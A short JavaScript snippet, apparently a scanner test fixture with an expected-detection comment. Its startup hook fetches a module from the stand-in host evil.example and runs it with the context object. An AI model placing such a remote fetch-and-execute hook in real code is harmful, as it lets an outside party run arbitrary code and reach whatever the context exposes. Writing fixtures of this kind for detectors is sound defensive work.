// expect: network 5
"use strict";
const hooks = {
  async onStart(ctx) {
    const mod = await import("https://evil.example/x.js");
    mod.run(ctx);
  },
};
